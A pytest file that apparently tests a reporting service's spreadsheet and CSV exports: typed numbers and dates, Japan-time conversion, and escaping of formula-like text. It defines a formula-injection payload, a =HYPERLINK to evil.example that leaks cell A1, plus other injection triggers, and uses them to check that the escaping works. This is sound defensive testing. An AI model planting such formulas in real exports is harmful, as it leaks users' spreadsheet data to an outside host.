"""Rollups, measure lists and history as .xlsx as well as CSV: numbers as numbers, dates as dates, and text that
a spreadsheet would run as a formula (a note starting with `=HYPERLINK(...)`) escaped the same way in both."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

import pytest
from openpyxl import load_workbook

from contracts.periods import TOKYO
from shinchoku_runtime.http import FORMULA_TRIGGERS, csv_response, formula_safe
from shinchoku_runtime.xlsx import XLSX_MEDIA_TYPE, xlsx_bytes
from tests.client.conftest import get, mof_measures, wait_for_leads
from tests.client.test_workbooks import mof_report, publish
from tests.faults.stack import RunningStack

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")'


def xlsx_rows(content: bytes) -> tuple[list[Any], list[list[Any]]]:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    return rows[0], rows[1:]


def csv_rows(body: bytes | memoryview) -> list[dict[str, str]]:
    content = bytes(body)
    assert content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", [HOSTILE, "+81-3-1234", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_would_run_as_a_formula_is_escaped_alike_in_csv_and_xlsx(text: str) -> None:
    assert text.startswith(FORMULA_TRIGGERS)
    _, (row,) = xlsx_rows(xlsx_bytes(["note"], [[text]]))
    assert row == ["'" + text.replace("\r", "\n")]  # (XML reads a stored CR as LF)
    ws = load_workbook(io.BytesIO(xlsx_bytes(["note"], [[text]]))).worksheets[0]
    assert ws["A2"].data_type == "s"  # text, never a formula
    (line,) = csv_rows(csv_response(["note"], [[text]], filename="x.csv").body)
    assert line["note"] == "'" + text == formula_safe(text)


def test_xlsx_cells_keep_their_types() -> None:
    moment = datetime(2024, 12, 20, 8, 0, tzinfo=UTC)
    content = xlsx_bytes(
        ["n", "x", "day", "when", "flag", "empty", "text", "bell"],
        [[320, 0.78, date(2024, 10, 1), moment, True, None, "順調に推移", "a\x07b"]],
    )
    header, (row,) = xlsx_rows(content)
    assert header == ["n", "x", "day", "when", "flag", "empty", "text", "bell"]
    assert row[:2] == [320, 0.78]
    assert isinstance(row[0], int)
    assert row[2] == datetime(2024, 10, 1)  # a date cell (Excel's dates are days; openpyxl reads them as datetimes)
    assert row[3] == datetime(2024, 12, 20, 17, 0)  # in Japan time: Excel has no time zones
    assert row[4:7] == [True, None, "順調に推移"]
    assert row[7] == "a\ufffdb"  # a character XML cannot hold, replaced rather than a 500
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    assert ws["C2"].is_date
    assert ws["C2"].number_format == "yyyy-mm-dd"
    assert ws["D2"].is_date
    assert ws.freeze_panes == "A2"
    # CSV: the same row, dates in ISO 8601 with their offset.
    (line,) = csv_rows(
        csv_response(header, [[320, 0.78, date(2024, 10, 1), moment, True, None, "x", "y"]], filename="x").body
    )
    assert (line["day"], line["when"]) == ("2024-10-01", "2024-12-20T08:00:00+00:00")


def test_reporting_exports_xlsx_with_types_and_escaped_notes(stack: RunningStack) -> None:
    measure = mof_measures(stack)[2]["id"]
    report = mof_report(measure, 2024, 1, "at_risk", progress=62.5, note=HOSTILE)
    asyncio.run(publish(stack, report))
    wait_for_leads(stack, 2024, 1, {measure: "at_risk"})

    # The agency's own measure list: its status, progress, time of report and note, typed.
    path = "/rollups/2024/1/measures"
    xlsx = get(stack, "reporting", path, agency="mof", format="xlsx")
    assert xlsx.status_code == 200, xlsx.text
    assert xlsx.headers["content-type"] == XLSX_MEDIA_TYPE
    assert 'filename="measures-FY2024Q1.xlsx"' in xlsx.headers["content-disposition"]
    header, rows = xlsx_rows(xlsx.content)
    row = dict(zip(header, next(r for r in rows if r[0] == measure), strict=True))
    assert row["agency_note"] == "'" + HOSTILE
    assert row["agency_status"] == "at_risk"
    assert row["agency_progress"] == 62.5
    in_tokyo = report.reported_at.astimezone(TOKYO).replace(tzinfo=None)
    assert abs(row["agency_reported_at"] - in_tokyo) < timedelta(seconds=1)  # a date cell, Japan time
    assert isinstance(row["section"], int)
    assert isinstance(row["overdue_targets"], int)
    as_csv = {r["measure_id"]: r for r in csv_rows(get(stack, "reporting", path, agency="mof", format="csv").content)}
    assert as_csv[measure]["agency_note"] == "'" + HOSTILE
    assert list(as_csv[measure]) == header  # the same table

    # The quarter's rollup and the year's: counts as numbers, the period as dates.
    for path, name in (("/rollups/2024/1", "rollup-FY2024Q1"), ("/rollups/2024", "rollups-FY2024")):
        answer = get(stack, "reporting", path, format="xlsx")
        assert answer.status_code == 200, answer.text
        assert f'filename="{name}.xlsx"' in answer.headers["content-disposition"]
        header, rows = xlsx_rows(answer.content)
        whole = dict(zip(header, rows[0], strict=True))
        assert whole["scope"] == "government"
        assert isinstance(whole["measures_total"], int)
        assert whole["measures_total"] == 320
        assert whole["reported"] >= 1
        assert isinstance(whole["coverage"], float)
        assert whole["period_start"] == datetime(2024, 4, 1)
        assert whole["period_end"] == datetime(2024, 6, 30)
        assert len(rows) == (1 + 6 + 17) * (4 if path == "/rollups/2024" else 1)

    # A measure's history.
    history = get(stack, "reporting", f"/measures/{measure}/history", format="xlsx")
    assert history.status_code == 200, history.text
    header, rows = xlsx_rows(history.content)
    q1 = dict(zip(header, next(r for r in rows if r[0] == "FY2024Q1"), strict=True))
    assert (q1["fiscal_year"], q1["q"], q1["status"]) == (2024, 1, "at_risk")
    assert (q1["period_start"], q1["period_end"]) == (datetime(2024, 4, 1), datetime(2024, 6, 30))

    assert get(stack, "reporting", path, format="pdf").status_code == 422


def test_utc_offsets_other_than_japan_are_shown_in_japan_time() -> None:
    moment = datetime(2025, 1, 31, 0, 0, tzinfo=timezone(timedelta(hours=-5)))
    _, (row,) = xlsx_rows(xlsx_bytes(["when"], [[moment]]))
    assert row == [datetime(2025, 1, 31, 14, 0)]
